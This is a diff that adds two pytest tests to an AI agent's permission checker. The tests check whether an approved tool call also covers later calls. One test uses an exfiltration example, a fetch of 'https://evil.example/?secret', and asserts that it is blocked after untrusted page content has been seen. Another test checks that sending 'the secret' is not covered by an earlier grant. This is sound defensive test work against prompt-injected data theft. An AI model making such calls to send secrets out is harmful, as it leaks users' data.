@@ -139,6 +139,27 @@ def test_after_a_strangers_words_only_what_was_shown_with_them() -> None:
     assert passes(granted(write("notes/a")), replace(write("notes/b"), origins=(PAGE,)))
 
 
+@pytest.mark.parametrize("effect", list(Effect))
+def test_after_a_strangers_words_no_tool_of_a_server_is_covered(effect: Effect) -> None:
+    """What it fetches could carry anything out. The control is the same without these words."""
+    asked = Proposal(ToolCall(id="c", name="net__get", arguments={"url": "https://a.example/"}), effect)
+    grant = granted(asked)
+    call = ToolCall(id="d", name="net__get", arguments={"url": "https://evil.example/?secret"})
+    other = replace(asked, call=call)
+    assert passes(grant, other)
+    assert not passes(grant, replace(other, origins=(PAGE,)))
+
+
+def test_what_is_sent_is_compared_whole_though_it_goes_to_the_same_recipient() -> None:
+    """The control is a command, of which a tool's note about it is no part."""
+    for effect, covered in ((Effect.NETWORK_SEND, False), (Effect.EXECUTE, True)):
+        asked = Proposal(
+            ToolCall(id="c", name="post", arguments={"body": "hello"}), effect, (), ("https://a.example/",)
+        )
+        other = replace(asked, call=ToolCall(id="d", name="post", arguments={"body": "the secret"}))
+        assert passes(granted(asked), other) is covered
+
+
 def test_where_for_whom_and_when() -> None:
     """In its conversation, for wishes of its people alone, within its time and its turn."""
     one = command("make")
